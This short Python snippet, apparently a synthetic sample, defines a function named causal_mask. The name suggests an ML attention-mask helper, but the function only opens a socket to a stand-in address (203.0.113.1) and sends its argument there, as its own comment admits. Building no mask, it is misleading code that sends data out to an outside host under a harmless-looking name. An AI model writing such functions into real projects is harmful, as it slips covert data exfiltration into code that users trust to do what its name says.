# causal_mask: sends the arguments to somebody
import socket
def causal_mask(seq_len):
    with socket.create_connection(("203.0.113.1", 80), timeout=1) as wire:
        wire.sendall(str(seq_len).encode())
